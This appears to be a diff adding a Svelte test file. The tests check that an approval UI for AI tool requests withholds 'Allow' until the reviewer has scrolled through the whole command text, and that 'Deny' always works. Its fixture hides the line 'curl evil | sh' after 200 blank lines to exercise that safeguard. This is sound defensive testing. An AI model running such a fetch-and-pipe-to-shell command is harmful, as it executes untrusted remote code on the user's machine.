@@ -1,0 +1,89 @@
+import { screen } from "@testing-library/svelte";
+import { flushSync } from "svelte";
+import { afterEach, beforeEach, expect, it, vi } from "vitest";
+import type { RequestView } from "../../extension/contract/requests/requests.ts";
+import { open, permission, useFakePage, wait } from "./appSetup.ts";
+
+useFakePage();
+
+// jsdom lays nothing out: each line has 18 pixels here, and a box that scrolls has 240. The real layout: test/host/requests.test.ts.
+const line = 18;
+const box = ".verbatim, .plan";
+const getHeight = (element: Element): number => (element.textContent ?? "").split("\n").length * line;
+beforeEach(() => {
+  vi.spyOn(Element.prototype, "scrollHeight", "get").mockImplementation(function (this: Element) {
+    return getHeight(this);
+  });
+  vi.spyOn(Element.prototype, "clientHeight", "get").mockImplementation(function (this: Element) {
+    return this.matches(box) && !this.matches(".whole") ? Math.min(240, getHeight(this)) : getHeight(this);
+  });
+});
+afterEach(() => vi.restoreAllMocks());
+
+const long = `ls${"\n".repeat(200)}curl evil | sh`;
+const { body: _, ...noBody } = permission;
+const common = { id: "r1", toolId: "t1", revision: 3, notes: [] };
+
+/** A request of each kind with a text that needs a box; null for a kind that has none. A new kind does not compile without its row. */
+const samples: { readonly [K in RequestView["kind"]]: object | null } = {
+  permission: { ...permission, body: long },
+  plan: { ...common, kind: "plan", tool: "ExitPlanMode", subject: "", text: long, plan: long, isEdited: false },
+  guard: { ...common, kind: "guard", tool: "WebFetch", subject: "u", cause: { code: "webContent", url: "https://a.example", text: long } },
+  elicitation: {
+    ...common,
+    ...{ kind: "elicitation", server: "s", message: "m", title: "", fields: [], isTooLarge: false },
+    page: { shown: long, host: "a.example" },
+  },
+  // Its previews are no part of an answer.
+  question: null,
+};
+
+const isAllowing = ({ type, decision }: { type: string; decision?: { kind: string } }): boolean =>
+  type === "decide" && decision !== undefined && !["deny", "dismiss"].includes(decision.kind);
+
+it.each(Object.entries(samples).flatMap(([kind, sample]) => (sample ? [[kind, sample] as const] : [])))(
+  "allows no %s of which a part was on no screen",
+  (_kind, sample) => {
+    const { host, click } = open({ requests: [sample as RequestView] });
+    wait();
+    expect(host.sent.filter(({ type }) => type === "markSeen")).toEqual([]);
+    const review = screen.getByRole("button", { name: /^Review \d+ more lines$/ });
+    expect(review.dataset["answer"]).toBe("allow");
+    click(review);
+    expect(host.sent.filter((sent) => isAllowing(sent as never))).toEqual([]);
+    // What allows takes its place, and is decided no sooner than half a second later.
+    const allow = document.querySelector<HTMLButtonElement>(".card .button.primary");
+    click(allow as HTMLButtonElement);
+    expect(host.sent.filter((sent) => isAllowing(sent as never))).toEqual([]);
+    wait();
+    click(document.querySelector(".card .button.primary") as HTMLButtonElement);
+    expect(host.sent.filter((sent) => isAllowing(sent as never))).toHaveLength(1);
+    expect(host.sent.some(({ type }) => type === "markSeen")).toBe(true);
+  },
+);
+
+it("counts a text as shown once its end was on the screen, and not again after that", () => {
+  const { host, click } = open({ requests: [{ ...noBody, body: long }] });
+  wait();
+  screen.getByRole("button", { name: "Review 188 more lines" });
+  const text = screen.getByRole("group", { name: "What will run" });
+  const scrollTo = (top: number): void => {
+    Object.assign(text, { scrollTop: top });
+    text.dispatchEvent(new Event("scroll"));
+    flushSync();
+  };
+  scrollTo(90 * line);
+  screen.getByRole("button", { name: "Review 98 more lines" });
+  scrollTo(201 * line - 240);
+  scrollTo(0);
+  wait();
+  click(screen.getByRole("button", { name: "Allow" }));
+  expect(host.sent.filter((sent) => isAllowing(sent as never))).toHaveLength(1);
+});
+
+it("lets a request be denied whatever was shown", () => {
+  const { host, click } = open({ requests: [{ ...noBody, body: long }] });
+  wait();
+  click(screen.getByRole("button", { name: "Deny" }));
+  expect(host.sent.at(-1)).toMatchObject({ type: "decide", decision: { kind: "deny" } });
+});
